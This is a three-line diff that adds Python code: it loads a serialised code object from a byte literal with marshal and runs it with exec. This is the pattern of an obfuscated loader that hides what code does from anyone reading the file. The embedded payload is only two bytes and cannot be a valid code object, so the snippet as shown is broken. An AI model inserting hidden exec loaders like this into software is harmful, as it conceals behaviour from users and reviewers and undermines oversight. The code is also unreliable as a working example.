@@ -1,0 +1,3 @@
+import marshal
+code = marshal.loads(b"\xe3\x00")
+exec(code)
